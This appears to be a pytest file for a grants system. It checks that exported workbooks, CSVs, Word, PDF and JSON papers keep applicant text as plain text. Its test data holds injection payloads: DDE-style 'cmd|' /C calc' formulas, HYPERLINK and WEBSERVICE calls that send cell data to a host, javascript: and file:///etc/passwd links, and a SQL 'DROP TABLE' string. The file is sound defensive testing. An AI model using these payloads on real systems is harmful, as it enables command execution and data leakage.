"""Whatever applicants, markers and the panel wrote, every paper holds it as text and nothing else."""

import csv
import json
import re
import unicodedata
from collections import Counter
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from xml.sax.saxutils import unescape
from zipfile import ZipFile

import pypdfium2
import pytest
from docx import Document
from openpyxl import load_workbook

from models.values.packs import allowed_text
from scoring.written.text import with_capital
from tests.cli.decided_rounds import TOTAL, decided_record, export_all
from tests.safety.table import Reached

RUNS = ("=", "+", "-", "@", "|", "%", "\uff1d")
FORMULA = re.compile(
    r"""(?:(?:SUM|SUBTOTAL|SUMIF|SUMPRODUCT|COUNT|COUNTA|COUNTIF|COUNTIFS|EXACT|IF|INT|ABS|LEFT|ROUND)\(
        |(?:Schedule|Awards|Payments|'By[ ](?:area|code|month)')!
        |\$?[A-Z]{1,2}\$?[0-9]{1,5}\b|[0-9]+(?:\.[0-9]+)?
        |""|"<"|">"|">0"|">-1E\+15"|"Not[ ]due[ ]before"|[-+*/&<>=:,()])*""",
    re.VERBOSE,
)
"""The formulas of ours: these functions, sheets and texts, cells, numbers and signs, and nothing else."""

HOSTILE = {
    "a formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a sign after a space": " \u200b+44 0000 000000",
    "markup": '<b onclick="x">&amp; </para><a href="http://example.org">R&D</a> &lt;i&gt; ]]>',
    "a placeholder": "{reason} {{ offered_pence }} {%p if why %} %(x)s ${y} {0}",
    "a field of a page head": "&P &[Page] &8 &A",
    "control characters": "one_x0001_two_x0000_three\u0085four\u2028five",
    "half a surrogate pair": "half _xD83D_ of a pair _xDE00_",
    "right to left": "\u202eevil\u202c \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "lines": "one\n\n=2+2\r\nthree\tfour\n" + "-" * 5,
    "300 characters in one word": "W" * 300,
    "40,000 characters": "long words " * 3_600,
}
MORE = {
    "a plus": "+44 1902 555123+cmd|' /C calc'!A0",
    "a minus": "-1+1|'x'!A0",
    "a full-width sign": "\uff1dSUM(A1)\uff0b\uff0d\uff20",
    "a tab first": "\t=1+1",
    "a line first": "\n@SUM(A1)",
    "a web service": '=WEBSERVICE("http://example.org/"&A1)',
    "a picture": '<img src="/etc/passwd"/><img src="http://example.org/x.png"/>',
    "a font": '<font name="Nowhere" size="900">big</font><onDraw name="x"/>',
    "an open tag": "<b>bold <i>and <u>more",
    "entities": "&amp;lt; &#60; &#x3C; &nbsp; R&D; <12 months",
    "the end of a part": "]]> <!-- x --> <?php x ?> -->",
    "a path": r"C:\new\table \\server\share \u0041 %TEMP% ~/x",
    "quotes": "'\"` “o’clock” ''; DROP TABLE marks; --",
    "letters of other lands": "Łódź, Ŵyl y Gŵyr, Çelik, Ångström, Ñandú, Ἀθῆναι, Москва",
    "marks above letters": "e\u0301 a\u0308 c\u0327 n\u0303",
    "spaces of many widths": "a\u00a0b\u2003c\u200bd\ufeffe",
    "a Word field": '{ HYPERLINK "http://example.org" } INCLUDETEXT "C:\\x"',
    "a link": "http://example.org/?a=1&b=2 javascript:alert(1) file:///etc/passwd",
    "an error of a table": "#REF! #N/A TRUE 1E+400 0x1F 1/2 00012",
}
"""The rest of the 32, tried in full."""
TOGETHER = (
    ("a formula", "markup", "a placeholder", "a field of a page head"),
    ("a command", "control characters", "half a surrogate pair", "lines"),
    ("a sign after a space", "right to left", "emoji"),
    ("300 characters in one word", "40,000 characters"),
)
"""What the suite writes one after another into each field; in full each is written alone as well."""
ALONE = [(name,) for name in (*HOSTILE, *MORE) if (name,) not in TOGETHER]
EVERY = [*TOGETHER, *(pytest.param(names, marks=pytest.mark.soak) for names in ALONE)]
LONG = ("300 characters in one word", "40,000 characters")
"""What may go on in another cell or end early, marked as such: their beginnings are compared."""
LONG_IN, MANY_PAGES = (1, 5), 400
"""Which applications have such texts in full, one that is funded and one that is not; the others say less."""
SHAPED = ("right to left", "emoji", "a full-width sign")
"""What a PDF holds in the order on the page, or in signs of another font: compared in workbooks alone."""
SHORT = ("organisation", "project", "member", "member of", "title", "type", "contact", "crime type")
"""What the record takes no more than a name of, where a text is very long."""
BEGIN_A_SENTENCE = ("crime type", "panel reason", "type")
"""What some papers write with a capital, as a sentence of its own; what members read is without numbers."""
ESCAPED = re.compile(r"_x(?!D[89A-F])([0-9A-Fa-f]{4})_")
"""How a workbook writes a character that XML does not know; half a surrogate pair stays as it is."""


@pytest.mark.safety(12)
@pytest.mark.safety(13)
@pytest.mark.parametrize("names", EVERY, ids=", ".join)
def test_every_paper_holds_what_was_written_as_text(
    names: tuple[str, ...], tmp_path: Path, reached: Reached
) -> None:
    papers, given = tmp_path / "papers", dict[str, str]()
    papers.mkdir()
    said = " ".join((HOSTILE | MORE)[name] for name in names)

    times = Counter[str]()

    def say(field: str) -> str:
        times[field] += 1
        short = said[:250] if field in SHORT else said
        given.setdefault(field, f"{short} ~{field}~")
        is_brief = _has(names, LONG) and field not in SHORT and times[field] not in LONG_IN
        return f"{said[:MANY_PAGES]} ~{field}~" if is_brief else given[field]

    found = export_all(decided_record(tmp_path, say), papers)

    formulas = sum(_CHECKS[ending](kind, path) or 0 for (kind, ending), path in found.items())
    assert [path.name for path in papers.rglob("*.part-*")] == []
    recipients = _recipients(found["360giving", ".json"])
    assert len(set(recipients)) == 1
    payees = {str(cell).replace("_x005F_", "_") for cell in _cells(found["finance", ".xlsx"])}
    assert recipients[0] in payees
    assert any(recipients[0].split()[0] in text for text in _word_texts(found["notice", ".docx"]))
    compared = sum(
        _compared(names, given, path) for (_, ending), path in found.items() if ending in (".xlsx", ".pdf")
    )
    reached(f"{len(found)} papers, {compared} texts in workbooks and PDFs as they were given", row=12)
    reached(f"{len(found)} papers, {formulas} cells are formulas, each of a listed form", row=13)
    assert compared > (0 if _has(names, LONG) else 15)


def _has(names: tuple[str, ...], some: tuple[str, ...]) -> bool:
    return not set(some).isdisjoint(names)


def _compared(names: tuple[str, ...], given: dict[str, str], path: Path) -> int:
    """Compare the fields that a paper shows with what was given; return how many it shows."""
    is_pdf = path.suffix == ".pdf"
    if is_pdf and _has(names, SHAPED):
        return 0
    texts = [_seen(_words_of(path))] if is_pdf else [_seen(str(cell)) for cell in _cells(path) if cell]
    shown = 0
    for field, text in given.items():
        wanted = _seen(ESCAPED.sub(_unescaped, text))[: 50 if _has(names, LONG) else None]
        holding = [found for found in texts if _seen(f"~{field}~") in found]
        forms = {wanted}
        if field in BEGIN_A_SENTENCE:
            forms.add(with_capital(wanted))
        if path.stem == "panel-book":
            forms.add(_seen(allowed_text(text)))
        assert all(any(one in found for one in forms) for found in holding), (path.name, field)
        shown += bool(holding)
    return shown


def _seen(text: str) -> str:
    """Return what of a text can be seen: no space, no control or format character, no sign between lines."""
    plain = unicodedata.normalize("NFC", text.replace("_x005F_", "_")).replace(";", "")
    return "".join(filter(_is_seen, plain))


@cache
def _is_seen(one: str) -> bool:
    return not one.isspace() and unicodedata.category(one) not in ("Cc", "Cf", "Cn", "Co")


def _unescaped(found: re.Match[str]) -> str:
    return chr(int(found[1], 16))


def _words_of(path: Path) -> str:
    """Return a paper's words without what stands over and under each page: texts may run over."""
    document = pypdfium2.PdfDocument(path)
    try:
        return "".join(_of_page(page.get_textpage().get_text_range().splitlines()) for page in document)
    finally:
        document.close()


def _of_page(lines: list[str]) -> str:
    """Return a page's words; its title, state, time and marking are written after them."""
    foot = next((at for at, line in enumerate(lines) if line.startswith("Generated ")), len(lines) + 1)
    return "".join(lines[: foot - 1])


def _recipients(path: Path) -> list[str]:
    grants = json.loads(path.read_text("utf-8"))["grants"]
    assert round(sum(grant["amountAwarded"] for grant in grants) * 100) == TOTAL
    return [grant["recipientOrganization"][0]["name"] for grant in grants]


def _check_workbook(kind: str, path: Path) -> int:
    """No cell runs but a listed formula of ours, which is counted; none leads out of the workbook."""
    formulas = 0
    with ZipFile(path) as archive:
        names = archive.namelist()
        assert not [name for name in names if "external" in name.casefold() or "vba" in name.casefold()]
        for name in (name for name in names if name.startswith("xl/worksheets/") and name.endswith(".xml")):
            content = archive.read(name).decode()
            assert "<hyperlink" not in content
            for formula in re.findall(r"<f\b[^>]*>([^<]*)</f>", content):
                assert FORMULA.fullmatch(unescape(formula)), (kind, name, formula)
                formulas += 1
            assert content.count("<f>") + content.count("<f ") + content.count("<f/") == len(
                re.findall(r"<f\b[^>]*>([^<]*)</f>", content)
            ), "every formula was looked at"
    return formulas


def _check_csv(kind: str, path: Path) -> None:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert len({len(row) for row in rows}) == 1
    running = [cell for row in rows for cell in row if cell.lstrip(" \u200b\u00a0").startswith(RUNS)]
    assert running == []


def _check_word(kind: str, path: Path) -> None:
    """No field but the page of a head, no link but to a place within; unsound XML would not open."""
    xml = Document(str(path)).element.xml
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", xml)
    assert all(re.fullmatch(r" ?PAGEREF h[0-9a-f]{8} \\h ?", field) for field in fields), fields
    assert len(fields) == xml.count("<w:instrText")
    assert all(
        re.fullmatch(r' w:anchor="h[0-9a-f]{8}"', found) for found in re.findall(r"<w:hyperlink([^>]*)>", xml)
    )


def _check_pdf(kind: str, path: Path) -> None:
    """The pages open and have words, and nothing on them can be followed or run."""
    pages = pypdfium2.PdfDocument(path)
    try:
        assert all(page.get_textpage().count_chars() for page in pages)
    finally:
        pages.close()
    content = path.read_bytes()
    assert not [word for word in (b"/URI", b"/JavaScript", b"/Launch") if word in content]


def _check_json(kind: str, path: Path) -> None:
    json.loads(path.read_text("utf-8"))


def _check_folder(kind: str, path: Path) -> None:
    written = sorted(path.glob("*.docx"))
    assert len(written) == 6, "five letters and all of them in one"
    for letter in written:
        _check_word(kind, letter)


_CHECKS = {
    ".xlsx": _check_workbook,
    ".csv": _check_csv,
    ".docx": _check_word,
    ".pdf": _check_pdf,
    ".json": _check_json,
    "": _check_folder,
}


def _cells(path: Path) -> set[object]:
    return {
        cell for sheet in load_workbook(path) for row in sheet.iter_rows(values_only=True) for cell in row
    }


def _word_texts(path: Path) -> Iterator[str]:
    for table in Document(str(path)).tables:
        yield from (cell.text for row in table.rows for cell in row.cells)
